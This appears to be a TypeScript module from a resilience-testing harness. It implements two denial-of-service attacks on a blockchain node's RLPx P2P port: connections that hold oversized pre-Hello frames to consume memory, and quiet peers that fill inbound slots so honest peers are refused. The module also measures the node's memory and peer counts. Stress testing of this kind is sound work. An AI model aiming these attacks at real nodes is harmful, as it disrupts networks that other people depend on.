/** The RLPx attacks on node 0's P2P port: memory held by unauthenticated peers, and peer slots filled. */
import type { Socket } from 'node:net';
import { loopUntil, type Attack, type AttackContext, type Figures } from './attack.ts';
import { rssMiB } from './measure.ts';
import { rpc } from './rpc.ts';
import { dialRlpx, frameHeaderOnly, QuietPeer, SocketSet } from './rlpx-dial.ts';
import { sleep, sleepUnlessAborted } from './time.ts';

const PREHELLO_CONNECTIONS = 30;
/** The largest frame-size the 24-bit header field can declare (16 MiB - 1). */
const DECLARED_FRAME_BYTES = 0xffffff;
const RETRY_PAUSE_MS = 200;
const SETTLE_AFTER_CLOSE_MS = 3_000;
const SLOT_CONNECTIONS = 40;
const SLOT_DIAL_CONCURRENCY = 8;
const PEER_SETTLE_MS = 2_000;
/** The late honest peer dials this long before the window ends. */
const LATE_PEER_LEAD_MS = 5_000;

/** The body of a declared frame (padded to 16) without its final MAC, sent in pieces of SEND_CHUNK_BYTES. */
const FRAME_BODY_BYTES = (DECLARED_FRAME_BYTES + 15) & ~15;
const SEND_CHUNK_BYTES = 1 << 20;
/** One shared zero chunk, so 30 senders cost no memory here. */
const ZERO_CHUNK = Buffer.alloc(SEND_CHUNK_BYTES);
/** A slot whose connection the node dropped sooner waits out the rest before dialling again. */
const MIN_SLOT_CYCLE_MS = 1_000;

function drainedOrClosed(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done);
      socket.off('close', done);
      resolve();
    };
    socket.once('drain', done);
    socket.once('close', done);
  });
}

/** Writes `bytes` zero bytes as the node takes them, stopping when it closes; `onAccepted` hears of each piece the kernel took. */
async function sendZeros(socket: Socket, bytes: number, signal: AbortSignal, onAccepted: (bytes: number) => void): Promise<void> {
  for (let sent = 0; sent < bytes && !socket.destroyed && !signal.aborted; sent += SEND_CHUNK_BYTES) {
    const chunk = ZERO_CHUNK.subarray(0, Math.min(SEND_CHUNK_BYTES, bytes - sent));
    const flushed = socket.write(chunk, (err) => err || onAccepted(chunk.length));
    if (!flushed) await drainedOrClosed(socket);
  }
}

function closedOrAborted(socket: Socket, signal: AbortSignal): Promise<void> {
  if (socket.destroyed || signal.aborted) return Promise.resolve();
  return new Promise((resolve) => {
    const done = (): void => {
      signal.removeEventListener('abort', done);
      resolve();
    };
    socket.once('close', done);
    signal.addEventListener('abort', done, { once: true });
  });
}

interface PreHelloStats {
  handshakes: number;
  failedDials: number;
  droppedByNode: number;
  heldMs: number[];
  /** Body bytes the kernel took (the node reads them, or they sat in its receive buffer). */
  bytesAccepted: number;
}

/** One connection that declares a 16 MiB frame before Hello and sends all of it but the MAC; resolves when either side closes. */
async function holdPreHelloConnection(ctx: AttackContext, sockets: SocketSet, stats: PreHelloStats): Promise<void> {
  const session = await dialRlpx(ctx.target.p2pPort, ctx.target.nodeId, sockets);
  stats.handshakes++;
  const openedMs = Date.now();
  session.socket.write(frameHeaderOnly(session.secrets, DECLARED_FRAME_BYTES));
  await sendZeros(session.socket, FRAME_BODY_BYTES, ctx.signal, (bytes) => (stats.bytesAccepted += bytes));
  await closedOrAborted(session.socket, ctx.signal);
  if (ctx.signal.aborted) return;
  stats.droppedByNode++;
  stats.heldMs.push(Date.now() - openedMs);
}

function preHelloSlot(ctx: AttackContext, sockets: SocketSet, stats: PreHelloStats): Promise<void> {
  return loopUntil(ctx.signal, async () => {
    const startMs = Date.now();
    try {
      await holdPreHelloConnection(ctx, sockets, stats);
    } catch {
      stats.failedDials++;
    }
    await sleepUnlessAborted(Math.max(RETRY_PAUSE_MS, MIN_SLOT_CYCLE_MS - (Date.now() - startMs)), ctx.signal);
  });
}

const mib = (bytes: number): number => Math.round(bytes / 2 ** 20);
const oneDecimal = (x: number | undefined): number | string => (x === undefined ? '?' : +x.toFixed(1));

const rlpxPreHello: Attack = {
  name: 'rlpx-prehello',
  description: `${PREHELLO_CONNECTIONS} RLPx connections to v0 that finish auth/ack, declare a ${DECLARED_FRAME_BYTES}-byte frame before Hello and send all of it but the MAC (each re-dialled when dropped, at most once a second)`,
  measured: true,
  async run(ctx) {
    const sockets = new SocketSet();
    // Closing at the window's end also ends writes waiting for the node to read.
    ctx.signal.addEventListener('abort', () => sockets.destroyAll(), { once: true });
    const stats: PreHelloStats = { handshakes: 0, failedDials: 0, droppedByNode: 0, heldMs: [], bytesAccepted: 0 };
    const rssBeforeMiB = rssMiB(ctx.target.pid);
    try {
      await Promise.all(Array.from({ length: PREHELLO_CONNECTIONS }, () => preHelloSlot(ctx, sockets, stats)));
    } finally {
      sockets.destroyAll();
    }
    await sleep(SETTLE_AFTER_CLOSE_MS);
    const rssAfterMiB = rssMiB(ctx.target.pid);
    const meanHeldS = stats.heldMs.length === 0 ? '-' : +(stats.heldMs.reduce((a, b) => a + b, 0) / stats.heldMs.length / 1000).toFixed(2);
    return {
      figures: {
        handshakes: stats.handshakes,
        failedDials: stats.failedDials,
        droppedByNode: stats.droppedByNode,
        meanHeldBeforeDropS: meanHeldS,
        bodyMiBAccepted: mib(stats.bytesAccepted),
        rssBeforeMiB: oneDecimal(rssBeforeMiB),
        [`rssAfterClose${SETTLE_AFTER_CLOSE_MS / 1000}sMiB`]: oneDecimal(rssAfterMiB),
      },
      note: rssBeforeMiB === undefined || rssAfterMiB === undefined ? undefined : `v0 RSS ${rssAfterMiB >= rssBeforeMiB ? '+' : ''}${Math.round(rssAfterMiB - rssBeforeMiB)} MiB after the connections closed`,
    };
  },
};

async function openQuietPeer(ctx: AttackContext, sockets: SocketSet): Promise<QuietPeer | undefined> {
  try {
    return new QuietPeer(await dialRlpx(ctx.target.p2pPort, ctx.target.nodeId, sockets));
  } catch {
    return undefined;
  }
}

async function openQuietPeers(ctx: AttackContext, sockets: SocketSet, count: number): Promise<Array<QuietPeer | undefined>> {
  const peers: Array<QuietPeer | undefined> = [];
  for (let i = 0; i < count && !ctx.signal.aborted; i += SLOT_DIAL_CONCURRENCY) {
    const wave = Math.min(SLOT_DIAL_CONCURRENCY, count - i);
    peers.push(...(await Promise.all(Array.from({ length: wave }, () => openQuietPeer(ctx, sockets)))));
  }
  return peers;
}

/** How many peers are in each state, and why the node dropped the ones it dropped. */
function peerCensus(peers: Array<QuietPeer | undefined>): Figures {
  const reasons = new Map<string, number>();
  for (const p of peers) if (p?.state === 'closed') reasons.set(p.disconnectReason ?? 'closed, no reason', (reasons.get(p.disconnectReason ?? 'closed, no reason') ?? 0) + 1);
  return {
    dialled: peers.length,
    handshakeFailed: peers.filter((p) => p === undefined).length,
    holdingSlot: peers.filter((p) => p?.state === 'ready').length,
    dropped: [...reasons].map(([r, n]) => `${n}x ${r}`).join(', ') || 'none',
  };
}

async function peerCountOf(port: number): Promise<number | string> {
  return rpc(port, 'net_peerCount', [], AbortSignal.timeout(2_000)).then(
    (hex: string) => Number(BigInt(hex)),
    () => 'no answer',
  );
}

/** What happens to one more (honest) peer that dials while the slots are taken. */
async function latePeerOutcome(ctx: AttackContext, sockets: SocketSet): Promise<string> {
  const peer = await openQuietPeer(ctx, sockets);
  if (!peer) return 'handshake failed';
  await sleep(PEER_SETTLE_MS);
  return peer.state === 'closed' ? `refused (${peer.disconnectReason ?? 'closed, no reason'})` : peer.state === 'ready' ? 'accepted' : 'no Hello yet';
}

const inboundSlots: Attack = {
  name: 'inbound-slots',
  description: `${SLOT_CONNECTIONS} inbound RLPx peers to v0 that complete Hello (istanbul/100), answer Pings and stay, then one late honest peer`,
  measured: true,
  async run(ctx) {
    const sockets = new SocketSet();
    const startMs = Date.now();
    const peersBefore = await peerCountOf(ctx.target.httpPort);
    try {
      const peers = await openQuietPeers(ctx, sockets, SLOT_CONNECTIONS);
      await sleepUnlessAborted(PEER_SETTLE_MS, ctx.signal);
      const peersWhileFull = await peerCountOf(ctx.target.httpPort);
      const census = peerCensus(peers);
      await sleepUnlessAborted(Math.max(0, ctx.windowMs - LATE_PEER_LEAD_MS - (Date.now() - startMs)), ctx.signal);
      const latePeer = ctx.signal.aborted ? 'not tried (window over)' : await latePeerOutcome(ctx, sockets);
      const heldAtEnd = peers.filter((p) => p?.state === 'ready').length;
      await sleepUnlessAborted(ctx.windowMs, ctx.signal);
      return { figures: { v0PeersBefore: peersBefore, v0PeersWhileFull: peersWhileFull, ...census, holdingSlotAtEnd: heldAtEnd, latePeer }, note: `${heldAtEnd} slots held; late honest peer ${latePeer}` };
    } finally {
      sockets.destroyAll();
    }
  },
};

export const P2P_ATTACKS: Attack[] = [rlpxPreHello, inboundSlots];
